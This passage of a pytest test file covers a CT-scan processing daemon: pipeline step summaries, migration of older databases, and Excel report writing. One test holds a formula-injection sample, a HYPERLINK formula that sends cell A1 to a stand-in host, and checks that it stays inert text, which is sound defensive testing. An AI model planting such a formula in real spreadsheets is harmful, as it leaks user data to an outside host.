                "No probability of pathology: the pipeline has no decision step (fusion's own output is in "
                "the JSON's fusion section)",
            ],
            id="no-decision-step",
        ),
        pytest.param(  # two steps with the same uses are told apart by their ids
            "Partial",
            [
                *step_records()[:5],
                {**step_records()[5], "step_id": "clip"},
                {**step_records(models=False)[5], "step_id": "clip_b"},
            ],
            None,
            None,
            [
                "Ran: series selection, image volume, lung measurements, key images, captioning, CT-CLIP "
                "zero-shot (clip)",
                "AI models not installed: CT-CLIP zero-shot (clip_b) — see `python run.py weights`",
                "No probability of pathology: the pipeline has no decision step",
            ],
            id="same-step-twice",
        ),
        pytest.param(  # withheld (unknown pixel spacing), and a step that needed its output
            "Partial",
            _with(
                _with(
                    step_records(models=False),
                    "clip",
                    missing=[],
                    error="pixel spacing unknown. Fix: export the series with PixelSpacing",
                ),
                "head",
                missing=[],
                error=None,
                reason="needs ctclip_latent, which an earlier skipped step did not provide",
            ),
            None,
            None,
            [
                "Ran: series selection, image volume, lung measurements, key images",
                "AI models not installed: captioning, CT-LiPro classifier, anomaly detector, fusion — see "
                "`python run.py weights`",
                "Did not run: CT-CLIP zero-shot — pixel spacing unknown. Fix: export the series with PixelSpacing",
                "Did not run: supervised head — needs ctclip_latent, which an earlier skipped step did not provide",
                "No probability of pathology: needs fusion",
            ],
            id="withheld-and-needs",
        ),
        pytest.param(  # on_missing_weights: fail
            "Failure",
            [*step_records()[:4], {**step_records(models=False)[4], "status": "failed"}],
            "step caption: weights not installed",
            None,
            [
                "Not analysed: captioning failed — weights not installed: /srv/ctwatch/weights/caption/model.bin "
                "— see `python run.py weights`",
                "Ran: series selection, image volume, lung measurements, key images",
            ],
            id="missing-weights-fail",
        ),
        pytest.param(  # stopped by a shutdown between steps: no failed step carries the reason
            "Failure",
            step_records()[:2],
            "interrupted by shutdown",
            None,
            ["Not analysed: interrupted by shutdown", "Ran: series selection, image volume"],
            id="interrupted",
        ),
    ],
)
def test_what_ran_in_words(
    status: str, steps: list[dict], error: str | None, probability: float | None, expected: list[str]
) -> None:
    cell = what_ran({"steps": steps}, status=status, error=error, probability=probability)
    assert cell is not None and cell.split("\n") == expected


# ---------------------------------------------------------------------------------------- older databases
def _older_database(path: Path, last: str = "0009_provenance") -> None:
    """A database as the ctwatch before late series (migration 0011) left it: the real migrations up
    to ``last``, one finished study and one quarantined input, written with that schema's columns."""
    path.parent.mkdir(parents=True)
    db = sqlite_utils.Database(path)
    db.table("_migrations").create({"name": str, "applied_at": str}, pk="name")
    for name, apply in MIGRATIONS:
        apply(db)
        db.table("_migrations").insert({"name": name, "applied_at": "2025-06-01T08:00:00+00:00"})
        if name == last:
            break
    done = f"{TODAY.isoformat()}T08:00:00+00:00"
    received = {"created_at": done.replace("T08", "T07"), "attempts": 1, "finished_at": done}
    kept = db.table("arrivals").insert(
        {"kind": "inbox", "name": "kept.zip", "sha256": "a" * 64, "state": "done", **received}
    )
    db.table("studies").insert(
        {
            "arrival_id": kept.last_pk,
            "study_uid": "1.2.826.0.1.77",
            "accession": "ACC77",
            "status": "Success",
            "finished_at": done,
        }
    )
    db.table("arrivals").insert(
        {
            "kind": "inbox",
            "name": "bad.zip",
            "sha256": "b" * 64,
            "state": "quarantined",
            "error": "not DICOM",
            **received,
        }
    )
    db.close()


def test_report_and_status_read_a_database_an_older_ctwatch_wrote(tmp_path: Path) -> None:
    """A restored backup from before migration 0010: `report` brings its schema up to date (under
    the state lock) and writes every row; while another ctwatch holds the database it changes
    nothing and says why (exit 2)."""
    project = Project(tmp_path)
    _older_database(project.state_path)
    lock = InstanceLock(project.state_path)
    lock.acquire("daemon")
    try:
        held = project.run("report")
    finally:
        lock.release()
    assert held.returncode == 2 and "written by an older ctwatch" in held.stderr, held.stderr
    assert "another ctwatch holds the database now" in held.stderr and "Traceback" not in held.stderr
    assert len(_migrations(project.state_path)) == 8, "nothing is changed under a running ctwatch"

    proc = project.run("report")
    assert proc.returncode == 0, proc.stderr
    assert _migrations(project.state_path) == [name for name, _ in MIGRATIONS]
    latest = project.outbox / "reports" / LATEST_NAME
    wb = openpyxl.load_workbook(latest, read_only=True)
    try:
        rows = list(wb["Studies"].iter_rows(values_only=True))
    finally:
        wb.close()
    files = {row[rows[0].index("Source file")] for row in rows[1:]}
    assert files == {"kept.zip", "bad.zip"}
    status = project.run("status")
    assert status.returncode == 0 and "done=1, quarantined=1" in status.stdout, status.stderr
    assert "executor: local (the pipeline runs in this daemon)" in status.stdout


def _migrations(path: Path) -> list[str]:
    conn = sqlite3.connect(path)
    try:
        return [row[0] for row in conn.execute("select name from _migrations order by rowid")]
    finally:
        conn.close()


def test_text_that_starts_with_an_equals_sign_stays_text(tmp_path: Path) -> None:
    """A file name or a DICOM description such as "=HYPERLINK(…)" reaches the workbook as the text
    it is, never as a formula Excel or LibreOffice would evaluate."""
    from openpyxl import Workbook, load_workbook

    from processor.outputs.sheets import write_table

    wb = Workbook()
    hostile = '=HYPERLINK("http://example.invalid/?x="&A1,"open")'
    write_table(wb.active, 1, ["name", "note"], [{"name": hostile, "note": "=1+1"}])
    wb.save(tmp_path / "w.xlsx")
    ws = load_workbook(tmp_path / "w.xlsx").active
    assert (ws["A2"].value, ws["A2"].data_type) == (hostile, "s")
    assert (ws["B2"].value, ws["B2"].data_type) == ("=1+1", "s")


def test_control_characters_in_text_are_shown_not_fatal(tmp_path: Path) -> None:
    """A DICOM description with a stray control byte (here \\x01, and an escape \\x1b): openpyxl
    refuses the whole workbook for one such character, so every study would vanish from Excel; the
    cell shows it as \\xNN instead, and tab and newline stay as they are."""
    from openpyxl import Workbook, load_workbook

    from processor.outputs.sheets import write_table

    wb = Workbook()
    write_table(wb.active, 1, ["series"], [{"series": "2 CHEST\x01 B70f\x1b$B,\tline\nnext"}])
    wb.save(tmp_path / "w.xlsx")
    ws = load_workbook(tmp_path / "w.xlsx").active
    assert ws["A2"].value == "2 CHEST\\x01 B70f\\x1b$B,\tline\nnext"
